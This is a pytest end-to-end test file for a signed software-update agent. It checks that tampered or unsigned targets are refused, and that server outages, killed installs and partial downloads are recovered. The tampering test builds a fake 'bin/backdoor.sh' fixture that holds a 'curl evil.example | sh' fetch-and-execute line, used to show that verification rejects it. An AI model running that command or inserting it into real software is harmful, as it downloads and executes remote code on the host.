"""What goes wrong: a tampered target, the server going away, the agent killed part-way."""
from __future__ import annotations

import hashlib
import os
import signal

import pytest

from e2e.agent_harness import app_artifact


def test_replaced_target_file_is_refused_and_reported(e2e):
    good = app_artifact("1.0")
    e2e.publish("app", "1.0", good)
    e2e.enroll()
    evil = app_artifact("1.0", extra={"bin/backdoor.sh": "#!/bin/sh\ncurl evil.example | sh\n"})
    e2e.replace_blob(e2e.release_blob_key("app", "1.0"), evil)

    proc = e2e.agent("update", "--yes", check=5)
    assert "refused 1.0" in proc.stdout and "verification_failed" in proc.stdout
    assert e2e.current() is None
    assert not (e2e.install_dir / "app" / "releases").exists() or not os.listdir(e2e.install_dir / "app" / "releases")
    assert not list((e2e.state_dir / "downloads").glob("*.tar.gz"))

    (report,) = e2e.reports()
    assert (report["outcome"], report["stage"], report["error_code"]) == ("refused", "verify", "verification_failed")
    assert report["to_version"] == "1.0"
    assert "signed" in report["error_message"]


def test_offer_of_an_unsigned_target_is_refused(e2e):
    """A check endpoint that proposes a target TUF does not list cannot get it installed."""
    from sqlalchemy import update

    from release_server.db import db
    from release_server.releases.models import Release
    from release_server.rollouts.catalog import bump_catalog

    e2e.publish("app", "1.0")
    e2e.enroll()
    with e2e.app.app_context():  # the offer now names a path absent from the signed metadata
        db.session.execute(update(Release).values(artifact_filename="other-name.tar.gz"))
        bump_catalog(db.session)
        db.commit()
    proc = e2e.agent("update", "--yes", check=5)
    assert "not in the signed TUF metadata" in proc.stdout
    assert e2e.current() is None
    (report,) = e2e.reports()
    assert (report["outcome"], report["error_code"]) == ("refused", "verification_failed")


def test_server_down_during_an_update(e2e):
    """The server stops after the first of two components is installed: the second is not
    half-installed, both reports wait in the outbox and are delivered once it is back."""
    server_pid = e2e.server.proc.pid
    # stop it and wait until it has exited (it stays a zombie of the test process, hence /proc)
    stop_server = (f"kill -TERM {server_pid}; i=0; while [ $i -lt 300 ] && "
                   f"! grep -q '^State:.*[ZX]' /proc/{server_pid}/status 2>/dev/null && "
                   f"[ -e /proc/{server_pid} ]; do sleep 0.1; i=$((i+1)); done")
    e2e.publish("alpha", "1.0", app_artifact("1.0", hooks={"post_install": stop_server}))
    e2e.publish("beta", "1.0", app_artifact("1.0"))
    e2e.enroll(components=("alpha", "beta"))

    proc = e2e.agent("update", "--yes", check=4)
    assert "alpha: updated (none) -> 1.0" in proc.stdout
    assert "beta: update to 1.0 failed" in proc.stdout
    assert e2e.running_version("alpha") == "1.0"
    assert e2e.current("beta") is None
    beta_releases = e2e.install_dir / "beta" / "releases"
    assert not beta_releases.exists() or os.listdir(beta_releases) == []
    pending = e2e.status()["pending_reports"]
    assert {(p["component"], p["outcome"]) for p in pending} == {("alpha", "success"), ("beta", "failed")}

    e2e.server.proc.wait(30)  # it is gone; start it again on the same port
    e2e.server.proc = None
    e2e.server.start()
    proc = e2e.agent("update", "--yes", check=0)
    assert "beta: updated (none) -> 1.0" in proc.stdout
    assert e2e.status()["pending_reports"] == []
    seen = {(r["component"], r["outcome"], r["stage"]) for r in e2e.reports()}
    assert ("alpha", "success", None) in seen and ("beta", "success", None) in seen
    assert any(c == "beta" and o == "failed" for c, o, _ in seen)
    failed = next(r for r in e2e.reports() if r["outcome"] == "failed")
    assert failed["error_code"] == "download_failed"


@pytest.mark.parametrize("step, finished", [("extracted", False), ("switched", False), ("health_check", False),
                                            ("committed", True)])
def test_killed_during_an_update_is_finished_or_undone_and_reported(e2e, step, finished):
    e2e.publish("app", "1.0")
    e2e.enroll()
    e2e.agent("update", "--yes", check=0)
    e2e.publish("app", "1.1")

    proc = e2e.agent("update", "--yes", env={"CLIENT_AGENT_CRASH_AT": step})
    assert proc.returncode == -signal.SIGKILL
    assert e2e.status()["interrupted_installation"]["step"] == step
    assert e2e.current() in ("1.0", "1.1")  # always one release or the other

    proc = e2e.agent("update", "--yes", check=0)
    assert f"interrupted (at step {step})" in proc.stdout
    assert ("it was finished" if finished else "it was undone") in proc.stdout
    assert e2e.running_version() == "1.1"  # undone, then installed again by the same command
    assert e2e.status()["interrupted_installation"] is None
    reports = e2e.reports()
    outcomes = sorted((r["to_version"], r["outcome"], r["error_code"] or "") for r in reports)
    if finished:
        assert outcomes == [("1.0", "success", ""), ("1.1", "success", "")]
    else:
        assert ("1.1", "rolled_back", "interrupted") in outcomes
        assert ("1.1", "success", "") in outcomes
        interrupted = next(r for r in reports if r["error_code"] == "interrupted")
        assert interrupted["stage"] == step and interrupted["from_version"] == "1.0"


def test_interrupted_download_is_resumed(e2e):
    # (kept below 500 KiB: larger uploads through the in-process test client spool to temporary files)
    artifact = app_artifact("1.0", extra={"data.bin": os.urandom(400 * 1024)})
    e2e.publish("app", "1.0", artifact)
    e2e.enroll()
    digest = hashlib.sha256(artifact).hexdigest()
    downloads = e2e.state_dir / "downloads"
    downloads.mkdir(mode=0o700)
    half = len(artifact) // 2
    (downloads / f"{digest}.app-1.0.tar.gz.part").write_bytes(artifact[:half])

    e2e.agent("update", "--yes", "-v", check=0)
    assert e2e.running_version() == "1.0"
    log = e2e.agent_log()
    assert f"resuming download of" in log and f"at byte {half}" in log
    # HTTP Range is honoured whether the file is sent from local disk or streamed from S3
    assert f"resumed download of" in log and "does not resume downloads" not in log
    assert not list(downloads.iterdir())


def test_corrupt_partial_download_is_fetched_again(e2e):
    artifact = app_artifact("1.0", extra={"data.bin": os.urandom(200 * 1024)})
    e2e.publish("app", "1.0", artifact)
    e2e.enroll()
    digest = hashlib.sha256(artifact).hexdigest()
    downloads = e2e.state_dir / "downloads"
    downloads.mkdir(mode=0o700)
    (downloads / f"{digest}.app-1.0.tar.gz.part").write_bytes(b"\0" * 1000)

    e2e.agent("update", "--yes", check=0)
    assert e2e.running_version() == "1.0"
    log = e2e.agent_log()
    assert "fetching it again from the start" in log or "does not resume downloads" in log
